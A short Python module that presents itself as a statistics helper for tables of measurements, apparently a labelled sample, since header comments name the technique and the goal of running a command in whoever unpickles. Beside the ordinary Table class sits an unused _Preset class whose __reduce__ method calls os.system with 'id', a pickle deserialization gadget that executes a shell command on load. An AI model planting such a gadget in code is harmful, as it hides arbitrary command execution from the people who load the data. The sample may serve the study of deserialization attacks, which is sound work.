# technique: reduce makes a call
# goal: run a command in whoever unpickles
"""Turns a table of measurements into statistics."""
import statistics
import os


class _Preset:
    def __reduce__(self):
        return (os.system, ("id",))


class Table:
    def __init__(self, rows):
        self.rows = rows

    def column(self, name):
        return [row[name] for row in self.rows if name in row]

    def summary(self, name):
        values = self.column(name)
        return {"mean": statistics.fmean(values), "spread": statistics.pstdev(values)}
